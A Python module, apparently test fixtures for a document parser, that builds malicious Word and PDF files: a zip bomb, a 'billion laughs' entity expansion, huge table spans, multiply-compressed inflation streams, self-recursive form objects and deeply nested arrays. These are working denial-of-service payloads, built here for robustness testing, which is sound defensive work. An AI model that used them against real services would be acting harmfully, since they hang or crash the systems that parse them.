"""Files made to hang, exhaust or crash whoever reads them."""

import zlib
from functools import cache
from io import BytesIO
from itertools import pairwise
from zipfile import ZIP_DEFLATED, ZipFile

import docx
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
START = f'<w:document xmlns:w="{W}"><w:body>'
END = "</w:body></w:document>"
MEGABYTE = 1024 * 1024
SECRET = "Ann Lee of Mill Lane"


# --- Word -------------------------------------------------------------------------------------


def packed(*pieces: bytes) -> bytes:
    """A Word file whose document part is these pieces."""
    buffer = BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("_rels/.rels", "<Relationships/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for piece in pieces:
                part.write(piece)
    return buffer.getvalue()


def word(body: str, start: str = START) -> bytes:
    return packed(f"{start}{body}{END}".encode())


@cache
def zip_bomb() -> bytes:
    """1 GiB of text in 5 MB."""
    text = b"x" * MEGABYTE
    return packed(f"{START}<w:p><w:r><w:t>".encode(), *[text] * 1024)


def declared(*declarations: str) -> bytes:
    """A document that says an entity of its own."""
    doctype = f"<!DOCTYPE d [{''.join(declarations)}]>"
    return word("<w:p><w:r><w:t>&a;</w:t></w:r></w:p>", doctype + START)


def laughs() -> bytes:
    """10^9 words out of ten entities."""
    names = "abcdefghij"
    return declared(
        *(f'<!ENTITY {name} "{f"&{after};" * 10}">' for name, after in pairwise(names)),
        '<!ENTITY j "ha">',
    )


def spanning() -> bytes:
    """A cell as wide as 100 million columns, a thousand times."""
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="100000000"/></w:tcPr><w:p/></w:tc>'
    text = f"<w:p><w:r><w:t>{SECRET}</w:t></w:r></w:p>"
    return word(f"{text}<w:tbl>{f'<w:tr>{cell * 2}</w:tr>' * 500}</w:tbl>")


@cache
def plain_word() -> bytes:
    document = docx.Document()
    document.add_paragraph(SECRET)
    buffer = BytesIO()
    document.save(buffer)
    return buffer.getvalue()


# --- PDF --------------------------------------------------------------------------------------


def pdf(objects: dict[int, bytes]) -> bytes:
    """A PDF file of these objects, the first of which is its catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    out += b"trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (max(objects) + 1, table)
    return bytes(out)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (entries, len(content), content)


def deflated(start: bytes, piece: bytes, count: int, end: bytes, times: int = 1) -> bytes:
    """A stream of a piece many times over, packed as often as asked for."""
    packer = zlib.compressobj(9)
    content = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    content += (packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)) * count
    checksum = zlib.adler32(start)
    for part in (*[piece] * count, end):
        checksum = zlib.adler32(part, checksum)
    last = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    content += last.compress(end) + last.flush() + checksum.to_bytes(4, "big")
    for _ in range(times - 1):
        content = zlib.compress(content, 9)
    return stream(content, b"/Filter[%b]" % (b"/FlateDecode" * times))


def page(contents: bytes, more: dict[int, bytes] | None = None, resources: bytes = b"") -> bytes:
    """A file with one page."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</Font<</F 5 0 R>>%b>>>>" % resources,
        4: contents,
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }
    return pdf(objects | (more or {}))


def tree(kids: bytes, count: int) -> bytes:
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count),
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        }
    )


def characters() -> bytes:
    """9.5 million characters on one page."""
    line = b"(" + b"x" * 1000 + b")Tj\n"
    return page(deflated(b"BT/F 1 Tf ", line, 9500, b"ET"))


@cache
def inflated() -> bytes:
    """1 GiB of blanks, packed three times into less than a kilobyte."""
    return page(deflated(b"", b" " * MEGABYTE, 1024, b"", times=3))


def forms(levels: int = 9) -> bytes:
    """Forms that each show the next one ten times; the last shows the first."""
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
    numbers = range(10, 10 + levels)
    more = {number: stream(b"/X Do " * 10, entries % (number + 1)) for number in numbers}
    more[numbers.stop] = stream(b"0 0 1 1 re f /X Do", entries % 10)
    return page(stream(b"/X Do " * 10), more, b"/XObject<</X 10 0 R>>")


def looping_form() -> bytes:
    """A form that shows itself."""
    return forms(0)


def nested_arrays() -> bytes:
    """Arrays nested 20,000 deep, as an object and among what is drawn."""
    deep = b"[" * 20_000 + b"]" * 20_000
    return page(stream(b"BT/F 9 Tf " + deep + b" TJ ET"), {6: deep}, b"/Deep 6 0 R/ExtGState " + deep)


@cache
def plain_pdf(password: str | None = None) -> bytes:
    buffer = BytesIO()
    lock = StandardEncryption(password) if password else None
    canvas = Canvas(buffer, encrypt=lock)
    canvas.drawString(72, 720, SECRET)
    canvas.save()
    return buffer.getvalue()
